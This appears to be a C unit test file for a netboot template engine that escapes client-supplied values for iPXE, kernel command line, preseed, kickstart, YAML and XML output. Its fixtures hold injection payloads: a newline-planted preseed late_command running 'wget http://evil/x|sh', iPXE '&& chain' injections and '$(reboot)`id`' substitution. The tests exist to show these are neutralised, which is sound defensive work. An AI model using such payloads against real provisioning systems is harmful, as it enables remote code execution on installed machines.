/* tmpl.c: unit tests of the template engine (libnetboot/tmpl.c). */
#include "config.h"

#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "tap.h"
#include "tmpl.h"

static json_t	*data;

/* Render body escaped for esc; compare with want (NULL: error errwant). */
static void
check_as(enum nb_tmpl_esc esc, const char *body, const char *want,
    const char *errwant, const char *what)
{
	char	 err[256] = "";
	char	*out;
	size_t	 len = 0;

	out = nb_tmpl_render_as(body, data, esc, &len, err, sizeof(err));
	if (want != NULL) {
		is_str(out, want, "%s", what);
		if (out == NULL)
			printf("#   error: %s\n", err);
		else
			ok(len == strlen(want), "%s: length", what);
	} else {
		ok(out == NULL && strstr(err, errwant) != NULL, "%s: error", what);
		if (out != NULL || strstr(err, errwant) == NULL)
			printf("#   got '%s', want error '%s'\n",
			    out ? out : err, errwant);
	}
	free(out);
}

/* check_as() with nb_tmpl_render()'s context: no escaping. */
static void
check(const char *body, const char *want, const char *errwant, const char *what)
{
	check_as(NB_TMPL_ESC_RAW, body, want, errwant, what);
}

/* Client-supplied values: issue 11's findings, as bootweb decodes them. */
#define SERIAL	"x\nd-i preseed/late_command string wget http://evil/x|sh"
#define SERIAL1	"x d-i preseed/late_command string wget http://evil/x|sh"
#define SERIAL2	"x d-i preseed/late_command string wget http://evil/xsh"
#define PRODUCT	"x && chain http://evil/x &&"
#define EVIL	"x%20%26%26%20chain%20http://evil/x%20%26%26"

/* iPXE and the kernel command line on iPXE's kernel line. */
static void
ctx_ipxe(void)
{
	check_as(NB_TMPL_ESC_IPXE,
	    "chain http://s/b?serial={{client.inventory.serial}}\n",
	    "chain http://s/b?serial=x%0Ad-i%20preseed/late_command%20string"
	    "%20wget%20http://evil/x%7Csh\n", NULL,
	    "ipxe: a newline cannot add a line");
	check_as(NB_TMPL_ESC_IPXE,
	    "echo {{client.inventory.product}} {{client.uuid}}\n",
	    "echo " EVIL " %24{net0/mac}\n", NULL,
	    "ipxe: && cannot add a command, ${} cannot expand");
	check_as(NB_TMPL_ESC_IPXE,
	    "echo {{vars.semi}}{{vars.hashy}}{{vars.bs}}\nchain x\n",
	    "echo %3B%23xx%5C\nchain x\n", NULL,
	    "ipxe: ; # and a continuing \\ are written as %XX");
	check_as(NB_TMPL_ESC_CMDLINE,
	    "console=ttyS0 serial={{client.inventory.product}} quiet",
	    "console=ttyS0 serial=\"x %26%26 chain http://evil/x %26%26\" quiet",
	    NULL, "cmdline: one quoted parameter, no iPXE command");
	check_as(NB_TMPL_ESC_CMDLINE, "s={{client.inventory.serial}}",
	    "s=\"" SERIAL1 "\"", NULL,
	    "cmdline: a newline is a space inside the quotes");
	check_as(NB_TMPL_ESC_CMDLINE, "a=\"{{vars.sp}}\" u={{client.uuid}} "
	    "q={{vars.q}} h={{vars.hashy}} {{vars.semi}} b={{vars.bs}} "
	    "p={{vars.hash}} d={{vars.dollar}}{x}",
	    "a=\"a b\" u=%24{net0/mac} q=\"it's q\" h=%23x %3B b=x%5C "
	    "p=$6$salt$abc d=x%24{x}", NULL,
	    "cmdline: the template's quotes, '\"' dropped, $ # ; \\ as %XX");
}

/* Preseed and kickstart: lines, shell words, shell scripts. */
static void
ctx_lines(void)
{
	check_as(NB_TMPL_ESC_PRESEED,
	    "d-i netcfg/get_hostname string {{client.inventory.serial}}\n"
	    "d-i netcfg/get_domain string lan\n",
	    "d-i netcfg/get_hostname string " SERIAL1 "\n"
	    "d-i netcfg/get_domain string lan\n", NULL,
	    "preseed: a newline cannot plant a line");
	check_as(NB_TMPL_ESC_PRESEED, "d-i preseed/late_command string "
	    "in-target hostname {{client.inventory.product}}\n",
	    "d-i preseed/late_command string in-target hostname "
	    "'x  chain http://evil/x '\n", NULL,
	    "preseed: a *_command value is one word of safe characters");
	check_as(NB_TMPL_ESC_PRESEED, "d-i preseed/early_command string "
	    "echo {{vars.cmd}}; echo '{{client.inventory.serial}}'\n",
	    "d-i preseed/early_command string echo rebootid; "
	    "echo '" SERIAL2 "'\n", NULL,
	    "preseed: no expansion, no way out of (nested) quotes");
	check_as(NB_TMPL_ESC_PRESEED,
	    "d-i passwd/root-password-crypted password {{vars.hash}}\n"
	    "d-i x string {{vars.bs}}\nd-i y string z\n",
	    "d-i passwd/root-password-crypted password $6$salt$abc\n"
	    "d-i x string x\nd-i y string z\n", NULL,
	    "preseed: plain answers as they are, no continuation");
	check_as(NB_TMPL_ESC_KICKSTART,
	    "network --hostname={{client.inventory.product}}\n"
	    "rootpw --iscrypted {{vars.hash}}\n",
	    "network --hostname='" PRODUCT "'\n"
	    "rootpw --iscrypted '$6$salt$abc'\n", NULL,
	    "kickstart: command values are one shlex word");
	check_as(NB_TMPL_ESC_KICKSTART,
	    "%post\ncat <<EOF >/etc/motd\n{{vars.cmd}} {{vars.q}}\nEOF\n"
	    "echo \"{{client.inventory.serial}}\"\n%end\n"
	    "network --hostname={{vars.q}}\n",
	    "%post\ncat <<EOF >/etc/motd\nrebootid 'its q'\nEOF\n"
	    "echo \"" SERIAL2 "\"\n%end\n"
	    "network --hostname='it'\\''s \"q\"'\n", NULL,
	    "kickstart: %post is shell, even in a here-document");
}

/* YAML, XML, raw. */
static void
ctx_docs(void)
{
	check_as(NB_TMPL_ESC_YAML,
	    "hostname: {{client.inventory.serial}}\n- {{client.uuid}}\n",
	    "hostname: \"x\\nd-i preseed/late_command string wget "
	    "http://evil/x|sh\"\n- \"${net0/mac}\"\n", NULL,
	    "yaml: a string is one double-quoted scalar");
	check_as(NB_TMPL_ESC_YAML, "fqdn: {{client.hostname}}\nn: {{vars.n}}\n"
	    "name: \"{{vars.q}}\"\non: {{vars.yes}}\n",
	    "fqdn: web1\nn: 3\nname: \"it's \\\"q\\\"\"\non: \"yes\"\n", NULL,
	    "yaml: plain words, numbers, quotes the template opened");
	check_as(NB_TMPL_ESC_YAML,
	    "runcmd:\n  - echo {{client.inventory.asset}}\n"
	    "  - [ sh, -c, 'echo {{vars.q}}' ]\n",
	    "runcmd:\n  - echo x users name evil  c\n"
	    "  - [ sh, -c, 'echo its q' ]\n", NULL,
	    "yaml: runcmd values are safe shell words too");
	check_as(NB_TMPL_ESC_YAML, "autoinstall:\n  late-commands:\n"
	    "    - sh -c 'echo {{client.inventory.product}}'\n"
	    "  user-data:\n    a: v-{{client.inventory.asset}}\n"
	    "    b: '{{vars.q}}'\n",
	    "autoinstall:\n  late-commands:\n"
	    "    - sh -c 'echo x  chain http://evil/x '\n"
	    "  user-data:\n    a: v-x users [{name evil}]  c\n"
	    "    b: 'it''s \"q\"'\n", NULL,
	    "yaml: no key or comment from inside a plain or quoted scalar");
	check_as(NB_TMPL_ESC_XML,
	    "<Name>{{client.inventory.platform}}</Name><V a=\"{{vars.q}}\"/>",
	    "<Name>&lt;/Name&gt;&lt;Cmd&gt;evil&lt;/Cmd&gt;</Name>"
	    "<V a=\"it&apos;s &quot;q&quot;\"/>", NULL, "xml: entities");
	check_as(NB_TMPL_ESC_XML,
	    "<Path>cmd /c echo {{client.inventory.product}}</Path>"
	    "<Description>{{client.inventory.product}}</Description>"
	    "<source><![CDATA[echo {{vars.cmd}} {{client.inventory.serial}}]]>"
	    "</source>",
	    "<Path>cmd /c echo x  chain http://evil/x </Path><Description>"
	    "x &amp;&amp; chain http://evil/x &amp;&amp;</Description>"
	    "<source><![CDATA[echo rebootid xd-i preseed/late_command string "
	    "wget http://evil/xsh]]></source>", NULL,
	    "xml: command elements keep only safe characters");
	check_as(NB_TMPL_ESC_RAW, "{{client.inventory.serial}}", SERIAL, NULL,
	    "raw: as it is");
}

/* Raw tags: refused for what the client supplies, allowed otherwise. */
static void
raw_tags(void)
{
	check_as(NB_TMPL_ESC_PRESEED, "a\n{{{client.inventory.serial}}}", NULL,
	    "line 2: raw output of client-supplied 'client.inventory.serial' "
	    "is refused", "raw client inventory refused");
	check_as(NB_TMPL_ESC_IPXE, "chain {{&client.uuid}}", NULL,
	    "line 1: raw output of client-supplied 'client.uuid' is refused",
	    "raw uuid refused");
	check_as(NB_TMPL_ESC_RAW, "{{{client.vendor_class}}}", NULL,
	    "raw output of client-supplied 'client.vendor_class'",
	    "raw refused in raw too");
	check_as(NB_TMPL_ESC_YAML,
	    "{{#client.inventory}}\n{{{serial}}}\n{{/client.inventory}}", NULL,
	    "line 2: raw output of client-supplied 'serial'",
	    "raw refused inside a section");
	check_as(NB_TMPL_ESC_YAML, "{{{client}}}", NULL,
	    "raw output of client-supplied 'client'",
	    "raw refused for what holds client values");
	check_as(NB_TMPL_ESC_KICKSTART, "rootpw --iscrypted {{{vars.hash}}}",
	    "rootpw --iscrypted $6$salt$abc", NULL,
	    "raw operator value allowed");
	check_as(NB_TMPL_ESC_CMDLINE, "{{&vars.sp}}", "a b", NULL,
	    "raw operator value, cmdline");
}

/* A render stops at its work budget: nested sections cannot spin. */
static void
work_bound(void)
{
	json_t		*a = json_array(), *saved = data;
	struct timespec	 t0, t1;
	char		 err[256] = "", *out;
	double		 ms;
	size_t		 i, len;

	for (i = 0; i < 1000; i++)
		json_array_append_new(a, json_integer((json_int_t)i));
	data = json_pack("{so}", "a", a);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	out = nb_tmpl_render("{{#a}}{{#a}}{{#a}}{{/a}}{{/a}}{{/a}}", data, NULL,
	    err, sizeof(err));
	clock_gettime(CLOCK_MONOTONIC, &t1);
	ms = (double)(t1.tv_sec - t0.tv_sec) * 1e3 +
	    (double)(t1.tv_nsec - t0.tv_nsec) / 1e6;
	ok(out == NULL &&
	    strstr(err, "rendering takes more than 100000 steps") != NULL,
	    "3 sections nested over 1000 items stop: %s", err);
	/* Measured at about 1 ms; the bound leaves room for a loaded machine. */
	ok(ms < 100, "and stop soon: %.2f ms", ms);
	out = nb_tmpl_render("{{#a}}{{.}},{{/a}}", data, &len, err, sizeof(err));
	ok(out != NULL && len == 3890, "1000 items render: %zu bytes", len);
	free(out);
	json_decref(data);
	data = saved;
}

/* Parsing alone (bootctl template add and edit) and escaping by kind. */
static void
check_kinds(void)
{
	char	 err[128] = "";

	ok(nb_tmpl_check("x\ny {{client.hostname", err, sizeof(err)) == -1 &&
	    strcmp(err, "line 2: unterminated tag") == 0, "check: %s", err);
	ok(nb_tmpl_check("{{#a}}\n{{/b}}", err, sizeof(err)) == -1 &&
	    strstr(err, "line 2: section 'a'") != NULL, "check: %s", err);
	ok(nb_tmpl_check("{{#a}}\n{{/a}}\n{{nosuch}}", err, sizeof(err)) == 0,
	    "check: undefined names are for render time");
	ok(nb_tmpl_esc_kind("cloud-init") == NB_TMPL_ESC_YAML &&
	    nb_tmpl_esc_kind("autoyast") == NB_TMPL_ESC_XML &&
	    nb_tmpl_esc_kind("ipxe") == NB_TMPL_ESC_IPXE &&
	    nb_tmpl_esc_kind("raw") == NB_TMPL_ESC_RAW &&
	    nb_tmpl_esc_kind("nosuch") == NB_TMPL_ESC_PRESEED,
	    "escaping by kind");
}

/* Client text as stored (libnetboot/db_client.c). */
static void
clean_text(void)
{
	char		 buf[NB_CLIENT_TEXT_MAX + 1], lng[300];
	const char	*c;
	json_t		*inv, *cl;
	size_t		 i;

	c = nb_client_text("PXEClient:Arch:00007", buf);
	ok(c != buf && strcmp(c, "PXEClient:Arch:00007") == 0,
	    "clean text is kept, not copied");
	is_str(nb_client_text("x\nd-i\r\t\x7f!", buf), "xd-i!",
	    "C0 and DEL removed");
	is_str(nb_client_text("a\xff" "b\xc0\xaf" "c\xed\xa0\x80" "d\xc3", buf),
	    "abcd", "invalid UTF-8 removed (stray, overlong, surrogate, cut)");
	is_str(nb_client_text("a\xe2\x80\xa8" "b\xc2\x85" "c\xc3\xa9", buf),
	    "abc\xc3\xa9", "C1 and U+2028 removed, other UTF-8 kept");
	memset(lng, 'a', 255);
	strlcpy(lng + 255, "\xc3\xa9zz", sizeof(lng) - 255);
	c = nb_client_text(lng, buf);
	ok(strlen(c) == 255 && strspn(c, "a") == 255,
	    "cut to %d bytes at a character", NB_CLIENT_TEXT_MAX);
	ok(nb_client_text(NULL, buf) == NULL, "NULL stays NULL");

	inv = json_pack("{sssis{si}sb}", "serial", "x\ny", "memsize", 512,
	    "nested", "a", 1, "ok", 1);
	for (i = 0; i < 40; i++) {
		snprintf(lng, sizeof(lng), "k%02zu", i);
		json_object_set_new(inv, lng, json_string("v"));
	}
	cl = nb_client_inventory_clean(inv);
	ok(json_object_size(cl) == NB_INVENTORY_MAX &&
	    json_object_get(cl, "nested") == NULL,
	    "inventory: %zu keys, no nested objects", json_object_size(cl));
	is_str(json_string_value(json_object_get(cl, "serial")), "xy",
	    "inventory values cleaned");
	json_decref(inv);
	json_decref(cl);
}

int
main(void)
{
	json_error_t	 je;
	char		 deep[2048], err[128];
	size_t		 i;

	data = json_loads("{\"server_url\": \"http://10.77.0.2:8080\","
	    "\"client\": {\"mac\": \"52:54:00:12:34:56\", \"hostname\": \"web1\", \"name\": null,"
	    "  \"vars\": {\"disk\": \"/dev/vda\"}, \"allowed\": true,"
	    "  \"suspended\": false, \"uuid\": \"${net0/mac}\","
	    "  \"vendor_class\": \"PXEClient\\nx\", \"inventory\": {"
	    "  \"serial\": \"x\\nd-i preseed/late_command string wget "
	    "http://evil/x|sh\", \"product\": \"" PRODUCT "\","
	    "  \"asset\": \"x\\nusers: [{name: evil}] # c\","
	    "  \"platform\": \"</Name><Cmd>evil</Cmd>\"}},"
	    "\"vars\": {\"disk\": \"/dev/vda\", \"pkgs\": [\"vim\", \"curl\"], \"n\": 3, \"zero\": 0,"
	    "  \"empty\": \"\", \"none\": [], \"users\": [{\"name\": \"ann\", \"uid\": 1000},"
	    "  {\"name\": \"bob\", \"uid\": 1001}], \"ratio\": 0.5,"
	    "  \"lt\": \"<&>\\\"\", \"hash\": \"$6$salt$abc\", \"sp\": \"a b\","
	    "  \"q\": \"it's \\\"q\\\"\","
	    "  \"cmd\": \"$(reboot)`id`\", \"bs\": \"x\\\\\", \"yes\": \"yes\","
	    "  \"semi\": \";\", \"hashy\": \"#x\", \"dollar\": \"x$\"},"
	    "\"settings\": {\"menu.timeout\": \"10\", \"bootloader.7\": \"snponly.efi\"},"
	    "\"image\": {\"name\": \"debian12\", \"initrd_urls\": [\"http://s/data/a\", \"http://s/data/b\"]}}",
	    0, &je);
	ok(data != NULL, "test data parses");

	check("plain text\n", "plain text\n", NULL, "text without tags");
	check("", "", NULL, "empty template");
	check("host {{client.hostname}} at {{ server_url }}", "host web1 at http://10.77.0.2:8080",
	    NULL, "dotted variables, spaces in tags");
	check("d-i partman-auto/disk string {{vars.disk}}\n",
	    "d-i partman-auto/disk string /dev/vda\n", NULL, "preseed line");
	check("{{{vars.lt}}} {{&vars.lt}} {{vars.lt}}", "<&>\" <&>\" <&>\"", NULL,
	    "no HTML escaping, triple and & the same");
	check("n={{vars.n}} r={{vars.ratio}} t={{client.allowed}} f={{client.suspended}} x={{client.name}}.",
	    "n=3 r=0.5 t=true f=false x=.", NULL, "numbers, booleans, null");
	check("{{#vars.pkgs}}pkg {{.}}\n{{/vars.pkgs}}", "pkg vim\npkg curl\n", NULL,
	    "loop over an array with {{.}}");
	check("{{#vars.users}}{{name}}:{{uid}} {{/vars.users}}", "ann:1000 bob:1001 ", NULL,
	    "loop over objects");
	check("{{#vars.users}}{{name}}@{{client.hostname}},{{/vars.users}}", "ann@web1,bob@web1,",
	    NULL, "outer names visible inside a loop");
	check("{{#client}}{{mac}}{{/client}}", "52:54:00:12:34:56", NULL, "object section");
	check("{{#vars.zero}}z{{/vars.zero}}{{#vars.empty}}e{{/vars.empty}}{{#vars.none}}n{{/vars.none}}"
	    "{{#nosuch}}u{{/nosuch}}{{#client.suspended}}s{{/client.suspended}}", "", NULL,
	    "falsy: 0, \"\", [], undefined, false");
	check("{{^vars.none}}no pkgs{{/vars.none}}{{^vars.pkgs}}x{{/vars.pkgs}}{{^nosuch}}!{{/nosuch}}",
	    "no pkgs!", NULL, "inverted sections");
	check("{{#vars.n}}[{{.}}]{{/vars.n}}", "[3]", NULL, "scalar section pushes the value");
	check("a{{! a comment }}b{{!\nmulti\nline}}c", "abc", NULL, "comments");
	check("{{image.initrd_urls.1}}", "http://s/data/b", NULL, "array index in a path");
	check("{{settings.menu.timeout}} {{settings.bootloader.7}}", "10 snponly.efi", NULL,
	    "keys holding dots (settings)");
	check("{{settings.menu.nosuch}}", NULL, "undefined variable 'settings.menu.nosuch'",
	    "a dotted key's missing sibling");
	check("{{image.initrd_urls}}", "[\"http://s/data/a\",\"http://s/data/b\"]", NULL,
	    "array variable as JSON");
	check("x\n  {{#vars.pkgs}}\n- {{.}}\n  {{/vars.pkgs}}\n{{! note }}\ny\n",
	    "x\n- vim\n- curl\ny\n", NULL, "standalone tags take their line");
	check("a {{#vars.n}}b{{/vars.n}} c\n", "a b c\n", NULL, "inline sections keep spaces");
	check("a\r\n{{#vars.n}}\r\nb\r\n{{/vars.n}}\r\n", "a\r\nb\r\n", NULL, "CRLF standalone lines");

	check("one\ntwo {{nope}}\n", NULL, "line 2: undefined variable 'nope'", "undefined variable");
	check("{{client.nope}}", NULL, "line 1: undefined variable 'client.nope'",
	    "undefined member");
	check("a\n\n{{#vars.pkgs}}\nx\n", NULL, "line 3: unclosed section 'vars.pkgs'",
	    "unclosed section");
	check("a\n{{/x}}", NULL, "line 2: '{{/x}}' closes no section", "stray close");
	check("{{#a}}\n{{/b}}", NULL, "line 2: section 'a' (line 1) closed by '{{/b}}'",
	    "mismatched close");
	check("x\ny {{client.hostname", NULL, "line 2: unterminated tag", "unterminated tag");
	check("{{}}", NULL, "line 1: empty tag", "empty tag");
	check("{{a b}}", NULL, "line 1: bad name 'a b'", "bad name");
	check("{{> part}}", NULL, "partials are not supported", "partials");
	check("{{=<% %>=}}", NULL, "changing delimiters is not supported", "delimiters");
	check("{{!\n\n}}\n{{#vars.users}}\n{{uid}} {{nope}}\n{{/vars.users}}\n", NULL,
	    "line 5: undefined variable 'nope'", "line numbers after a multi-line comment");

	deep[0] = '\0';
	for (i = 0; i < 33; i++)
		strlcat(deep, "{{#client}}", sizeof(deep));
	check(deep, NULL, "sections nested deeper than 32", "nesting is bounded");
	deep[0] = '\0';
	for (i = 0; i < 32; i++)
		strlcat(deep, "{{#client}}", sizeof(deep));
	strlcat(deep, "{{mac}}", sizeof(deep));
	for (i = 0; i < 32; i++)
		strlcat(deep, "{{/client}}", sizeof(deep));
	check(deep, "52:54:00:12:34:56", NULL, "32 levels of nesting render");

	ok(nb_tmpl_render("{{x}}", data, NULL, err, 8) == NULL && strlen(err) == 7,
	    "a short error buffer is truncated, not overrun");
	/* A value before any text: the escapers look back along an output
	 * that was NULL then (UBSan, found by tests/fuzz/fuzz-tmpl). */
	for (i = NB_TMPL_ESC_RAW; i <= NB_TMPL_ESC_XML; i++) {
		char	*o = nb_tmpl_render_as("{{client.mac}}", data,
		    (enum nb_tmpl_esc)i, NULL, err, sizeof(err));

		ok(o != NULL && strstr(o, "52:54:00:12:34:56") != NULL,
		    "a value first in context %zu: %s", i, o ? o : err);
		free(o);
	}
	ctx_ipxe();
	ctx_lines();
	ctx_docs();
	raw_tags();
	work_bound();
	check_kinds();
	clean_text();
	json_decref(data);
	return done_testing();
}
